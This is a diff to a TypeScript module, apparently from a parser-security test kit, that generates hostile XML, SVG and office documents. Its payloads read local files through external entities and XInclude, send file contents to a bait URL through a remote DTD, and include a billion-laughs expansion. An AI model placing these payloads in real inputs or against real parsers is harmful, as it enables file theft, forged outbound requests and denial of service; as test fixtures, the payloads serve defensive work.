@@ -1,12 +1,17 @@
 /** XML that reads files by entities and includes, calls addresses, and unfolds without an end: in every format made of it. */
 import type { Bait } from '../kit/bait.ts';
-import { CHEAP, type HostileInput, input } from './input.ts';
+import { type Aim, CHEAP, type HostileInput, input } from './input.ts';
 
 /** An entity `x` that is a file. */
 export const entity = (bait: Bait) => `<!DOCTYPE x [
-<!ENTITY % remote SYSTEM "${bait.url}/dtd"> %remote;
 <!ENTITY x SYSTEM "file://${bait.file('txt')}">
 <!ENTITY called SYSTEM "${bait.url}/entity">]>`;
+
+/** Declarations that are elsewhere, and would put a file into an address. */
+const elsewhere = (bait: Bait) => `<!DOCTYPE x SYSTEM "${bait.url}/x.dtd" [
+<!ENTITY % file SYSTEM "file://${bait.file('txt')}">
+<!ENTITY % remote SYSTEM "${bait.url}/dtd"> %remote;
+<!ENTITY x "x"><!ENTITY called "">]>`;
 
 const LEVELS = Array.from(
   { length: 9 },
@@ -107,9 +112,9 @@ const DOCUMENTS: Readonly<
       bait,
     ) => `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:xi="http://www.w3.org/2001/XInclude" width="200" height="100">
 <style>@import url("${bait.url}/style.css"); @import url("file://${bait.file('txt')}");</style>
-<image xlink:href="file://${bait.file('png')}" width="64" height="64"/><image href="${bait.file('png')}" width="64" height="64"/>
+<image xlink:href="file://${bait.file('png')}" width="64" height="64"/><image x="64" href="${bait.file('png')}" width="64" height="64"/>
 <image xlink:href="${bait.url}/image.png" width="64" height="64"/><use xlink:href="file://${bait.file('xml')}#x"/>
-<filter id="f"><feImage xlink:href="file://${bait.file('png')}"/></filter><rect width="64" height="64" filter="url(#f)"/>
+<filter id="f"><feImage xlink:href="file://${bait.file('png')}"/></filter><rect x="128" width="64" height="64" filter="url(#f)"/>
 <xi:include href="file://${bait.file('txt')}" parse="text"/><text y="50"><xi:include href="${bait.file('txt')}" parse="text"/>${text}</text>
 <foreignObject width="100" height="100"><iframe xmlns="http://www.w3.org/1999/xhtml" src="file://${bait.file('html')}"/></foreignObject>
 <script xlink:href="${bait.url}/script.js"/></svg>`,
@@ -137,13 +142,13 @@ End Sub</ooo:source-code></ooo:module></ooo:library-embedded></ooo:libraries></o
 const DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>\n';
 
 /** A document of each format, whose text is an entity. */
-function hostile(aim: 'read' | 'exhaust', what: string, declare: (bait: Bait) => string): HostileInput[] {
+function hostile(aim: Aim, what: string, declare: (bait: Bait) => string): HostileInput[] {
   return Object.entries(DOCUMENTS).map(([from, [extension, [first = '', ...others], document]]) =>
     input(
       aim,
       `${what}, as ${from}`,
       `entity.${extension}`,
-      [from, first, ...others.slice(0, aim === 'exhaust' ? 0 : 2)],
+      [from, first, ...others.slice(0, aim === 'read' ? 2 : 0)],
       (bait) => DECLARATION + declare(bait) + document('&x;&called;', bait),
       from === 'xml' || from === 'gpx' ? CHEAP : {},
     ),
@@ -155,6 +160,7 @@ const PLAIN = ['kml', 'gml', 'dae', 'x3d', 'svg', 'fodt', 'docbook'];
 
 export const xml: readonly HostileInput[] = [
   ...hostile('read', 'a document with an entity that is a file', entity),
+  ...hostile('call', 'a document whose declarations are elsewhere', elsewhere),
   ...hostile('exhaust', 'a document with an entity of a thousand million words', () => LAUGHS),
   ...PLAIN.flatMap((from) => {
     const [extension, [first = '', ...others], document] = DOCUMENTS[from] ?? ['', [], () => ''];
